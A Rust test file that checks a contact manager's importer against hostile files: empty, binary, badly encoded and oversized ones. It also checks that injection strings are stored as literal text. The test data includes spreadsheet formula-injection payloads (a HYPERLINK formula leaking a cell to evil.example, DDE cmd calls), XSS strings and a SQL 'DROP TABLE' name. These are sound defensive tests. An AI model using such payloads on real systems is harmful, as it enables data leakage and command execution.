//! Hostile files through the real import path: what a user might drop on the window by mistake
//! (a picture, a spreadsheet, an empty file), damaged files (cut short, unbalanced quotes, two
//! encodings), huge ones (a 10 MB cell, 100,000 columns, 10,000 e-mails on one card) and text
//! that is dangerous elsewhere (formulas, HTML, SQL). Each has one clear expected outcome: a
//! sentence that says what is wrong, or contacts with the text kept exactly as written, and a
//! refused file never changes the database. Small files live in tests/fixtures/hostile; the
//! big ones are generated here.

use rapport::import::{Format, ParsedFile, parse_file};
use rapport::store::Store;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

fn hostile(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/hostile")
        .join(name)
}

fn parse_bytes(bytes: &[u8], name: &str) -> Result<ParsedFile, String> {
    parse_file(bytes, name, "GB", |_| None)
}

/// A store on a real file that already holds one contact, so "nothing changed" means something.
fn store_with_one_contact(dir: &tempfile::TempDir) -> Store {
    let mut store = Store::open(&dir.path().join("rapport.sqlite3")).unwrap();
    let existing = parse_bytes(b"Name,E-mail\nKeep Me,keep@example.org\n", "seed.csv").unwrap();
    store
        .apply_import("seed.csv", "csv", &existing.contacts)
        .unwrap();
    assert_eq!(store.count_contacts("").unwrap(), 1);
    store
}

/// Parses and, when the file parses, plans and applies it the way the window does. Returns the
/// parse result; asserts that a refused file leaves the database exactly as it was.
fn import(store: &mut Store, bytes: &[u8], name: &str) -> Result<ParsedFile, String> {
    let before = store.count_contacts("").unwrap();
    let batches_before = store.import_batches().unwrap().len();
    match parse_bytes(bytes, name) {
        Ok(parsed) => {
            let plan = store.plan_import(&parsed.contacts).unwrap();
            assert_eq!(plan.actions.len(), parsed.contacts.len());
            let (_, applied) = store.apply_import(name, "test", &parsed.contacts).unwrap();
            assert_eq!(
                store.count_contacts("").unwrap(),
                before + applied.created(),
                "{name}"
            );
            Ok(parsed)
        }
        Err(message) => {
            assert_eq!(store.count_contacts("").unwrap(), before, "{name}");
            assert_eq!(store.import_batches().unwrap().len(), batches_before);
            Err(message)
        }
    }
}

fn import_fixture(store: &mut Store, name: &str) -> Result<ParsedFile, String> {
    import(store, &std::fs::read(hostile(name)).unwrap(), name)
}

fn stored(store: &Store, display_name: &str) -> rapport::model::ContactDraft {
    let all = store.all_contacts().unwrap();
    all.iter()
        .find(|c| c.draft.display_name == display_name)
        .unwrap_or_else(|| {
            panic!(
                "{display_name:?} not stored; have {:?}",
                all.iter()
                    .map(|c| &c.draft.display_name)
                    .collect::<Vec<_>>()
            )
        })
        .draft
        .clone()
}

#[test]
fn hostile_files_that_are_no_contact_list_are_refused_with_a_sentence() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = store_with_one_contact(&dir);
    let refused = |store: &mut Store, name: &str, words: &[&str]| {
        let message = import_fixture(store, name).expect_err(name);
        for word in words {
            assert!(message.contains(word), "{name}: {message}");
        }
    };
    refused(&mut store, "empty.csv", &["The file is empty."]);
    for binary in ["picture.png.csv", "spreadsheet.xlsx.csv", "nul_bytes.csv"] {
        refused(&mut store, binary, &["binary", "not like a contact list"]);
    }
    refused(
        &mut store,
        "truncated_utf8_bom.csv",
        &["says it is UTF-8", "not valid UTF-8"],
    );
    refused(
        &mut store,
        "unbalanced_quotes.csv",
        &["Line 2", "never closed", "Close or remove that quote"],
    );
    // Whitespace only, prose, and a .vcf that holds no card.
    let message = import(&mut store, b" \r\n\t\n", "blank.csv").unwrap_err();
    assert!(message.contains("no rows"), "{message}");
    let message = import(&mut store, b"Dear Ada\nthanks for lunch.\n", "letter.csv").unwrap_err();
    assert!(message.contains("does not look like a CSV"), "{message}");
    let message = import(&mut store, b"Dear Ada, thanks for lunch.\n", "letter.csv").unwrap_err();
    assert!(message.contains("None of the columns"), "{message}");
    let message = import(&mut store, b"Name,E-mail\nAda,ada@x.org\n", "x.vcf").unwrap_err();
    assert!(message.contains("No vCard"), "{message}");
    assert_eq!(store.count_contacts("").unwrap(), 1, "nothing was added");
}

#[test]
fn hostile_header_only_imports_nobody() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = store_with_one_contact(&dir);
    let parsed = import_fixture(&mut store, "header_only.csv").unwrap();
    assert_eq!(parsed.table.as_ref().unwrap().headers.len(), 4);
    assert!(parsed.contacts.is_empty() && parsed.problems.is_empty());
    assert_eq!(store.count_contacts("").unwrap(), 1);
}

#[test]
fn hostile_formulas_markup_and_sql_are_stored_as_literal_text() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = store_with_one_contact(&dir);
    let parsed = import_fixture(&mut store, "formula_injection.csv").unwrap();
    assert_eq!(parsed.contacts.len(), 4);
    assert!(parsed.problems.is_empty(), "{:?}", parsed.problems);
    let hyperlink = stored(
        &store,
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
    );
    assert_eq!(hyperlink.organization, "=1+1", "not evaluated");
    assert_eq!(hyperlink.personal_notes, "=cmd|' /C calc'!A0");
    assert_eq!(
        stored(&store, "+cmd|' /C notepad'!A0").organization,
        "+Acme"
    );
    assert_eq!(stored(&store, "@SUM(1+1)").personal_notes, "@here");
    assert_eq!(
        stored(&store, "-2+3").emails[0].address,
        "minus@example.org"
    );

    let parsed = import_fixture(&mut store, "html_names.csv").unwrap();
    assert_eq!(parsed.contacts.len(), 2);
    let script = stored(&store, "<script>alert(1)</script>");
    assert_eq!(script.organization, "<b>Bold</b> & Co");
    assert_eq!(script.personal_notes, "<img src=x onerror=alert(2)>");
    let bobby = stored(&store, "Robert'); DROP TABLE contacts;--");
    assert_eq!(bobby.emails[0].address, "bobby@example.org");
    // The table is still there, and search finds the literal text.
    assert_eq!(store.count_contacts("").unwrap(), 1 + 4 + 2);
    assert_eq!(store.count_contacts("<script>").unwrap(), 1);
}

#[test]
fn hostile_mixed_and_broken_encodings_keep_every_row_readable() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = store_with_one_contact(&dir);

    // UTF-8 rows and a row pasted from a Windows-1252 export: both halves read right.
    let mixed = import_fixture(&mut store, "mixed_encodings.csv").unwrap();
    assert_eq!(mixed.encoding, "UTF-8");
    assert!(
        mixed
            .notes
            .iter()
            .any(|n| n.contains("1 line(s) were not UTF-8") && n.contains("windows-1252")),
        "{:?}",
        mixed.notes
    );
    assert_eq!(
        mixed
            .contacts
            .iter()
            .map(|c| c.draft.display_name.as_str())
            .collect::<Vec<_>>(),
        ["José Müller", "Françoise Garçon"]
    );
    stored(&store, "José Müller");

    // Cut off in the middle of "ç": earlier rows intact, the cut said out loud.
    let cut = import_fixture(&mut store, "truncated_utf8.csv").unwrap();
    assert_eq!(cut.encoding, "UTF-8");
    assert!(
        cut.notes.iter().any(|n| n.contains("cut short")),
        "{:?}",
        cut.notes
    );
    assert_eq!(cut.contacts[1].draft.display_name, "José Müller");
    assert_eq!(cut.contacts[2].draft.display_name, "François Ga\u{FFFD}");

    // UTF-16 without a byte-order mark, with and without non-ASCII letters.
    let utf16 = import_fixture(&mut store, "utf16le_no_bom.csv").unwrap();
    assert_eq!((utf16.encoding, utf16.contacts.len()), ("UTF-16LE", 2));
    assert_eq!(utf16.contacts[0].draft.given_name, "José");
    let ascii16: Vec<u8> = "Name,E-mail\r\nAda Baker,ada@example.org\r\n"
        .encode_utf16()
        .flat_map(u16::to_be_bytes)
        .collect();
    let ascii16 = import(&mut store, &ascii16, "ascii16.csv").unwrap();
    assert_eq!(ascii16.encoding, "UTF-16BE");
    assert_eq!(ascii16.contacts[0].draft.display_name, "Ada Baker");
}

#[test]
fn hostile_vcard_cut_short_is_read_and_reported() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = store_with_one_contact(&dir);
    let parsed = import_fixture(&mut store, "truncated.vcf").unwrap();
    assert_eq!(parsed.format, Format::VCard);
    let ada = stored(&store, "Ada Baker");
    assert_eq!(ada.emails[0].address, "ada@example.org");
    assert_eq!(
        ada.phones[0].number, "+44 7911 1",
        "the cut number is kept as written"
    );
    assert_eq!(parsed.problems.len(), 1, "{:?}", parsed.problems);
    assert_eq!(parsed.problems[0].row, 1);
    assert!(parsed.problems[0].message.contains("no END:VCARD"));
}

#[test]
fn hostile_huge_cell_and_huge_header_import_in_bounded_time() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = store_with_one_contact(&dir);
    let started = Instant::now();

    // One 10 MB cell (quoted, with a newline and a doubled quote inside): kept whole.
    let mut huge = String::from("Name,E-mail,Notes\nAda Baker,ada@example.org,\"\"\"");
    huge.push_str(&"x".repeat(5 * 1024 * 1024));
    huge.push('\n');
    huge.push_str(&"y".repeat(5 * 1024 * 1024));
    huge.push_str("\"\nBob Stone,bob@example.org,short\n");
    let file = dir.path().join("huge_cell.csv");
    std::fs::write(&file, &huge).unwrap();
    let parsed = import(&mut store, &std::fs::read(&file).unwrap(), "huge_cell.csv").unwrap();
    assert_eq!(parsed.contacts.len(), 2);
    let notes = stored(&store, "Ada Baker").personal_notes;
    assert_eq!(notes.len(), 1 + 10 * 1024 * 1024 + 1);
    assert!(notes.starts_with("\"xxx") && notes.ends_with("yyy"));
    assert_eq!(stored(&store, "Bob Stone").personal_notes, "short");

    // 100,000 columns: two known ones and 99,998 that are ignored; one data row.
    let mut wide = String::from("Name,E-mail");
    for i in 0..99_998 {
        wide.push_str(&format!(",Extra {i}"));
    }
    wide.push_str("\nCy Young,cy@example.org");
    wide.push_str(&",z".repeat(99_998));
    wide.push('\n');
    let parsed = import(&mut store, wide.as_bytes(), "wide.csv").unwrap();
    assert_eq!(parsed.table.as_ref().unwrap().headers.len(), 100_000);
    assert_eq!(parsed.contacts.len(), 1);
    assert_eq!(
        stored(&store, "Cy Young").emails[0].address,
        "cy@example.org"
    );

    // A 5 MB line with no separators and no header words is not a table.
    let line = "a".repeat(5 * 1024 * 1024);
    let message = import(&mut store, line.as_bytes(), "line.csv").unwrap_err();
    assert!(message.contains("does not look like a CSV"), "{message}");

    assert_eq!(store.count_contacts("").unwrap(), 1 + 2 + 1);
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "took {:?}",
        started.elapsed()
    );
}

#[test]
fn hostile_vcard_with_ten_thousand_emails() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = store_with_one_contact(&dir);
    let started = Instant::now();
    let mut card = String::from("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Many Mails\r\n");
    for i in 0..10_000 {
        card.push_str(&format!("EMAIL;TYPE=INTERNET:many{i}@example.org\r\n"));
    }
    // The same address again in other case is one e-mail, not two.
    card.push_str("EMAIL:MANY0@EXAMPLE.ORG\r\nEND:VCARD\r\n");
    let parsed = import(&mut store, card.as_bytes(), "many.vcf").unwrap();
    assert_eq!(parsed.contacts.len(), 1);
    assert!(parsed.problems.is_empty(), "{:?}", parsed.problems);
    let many = stored(&store, "Many Mails");
    assert_eq!(many.emails.len(), 10_000);
    assert_eq!(many.emails[9_999].address, "many9999@example.org");
    // Importing it again finds the contact by e-mail and adds nothing.
    let again = store.plan_import(&parsed.contacts).unwrap();
    assert_eq!((again.created(), again.unchanged()), (0, 1));
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "took {:?}",
        started.elapsed()
    );
}
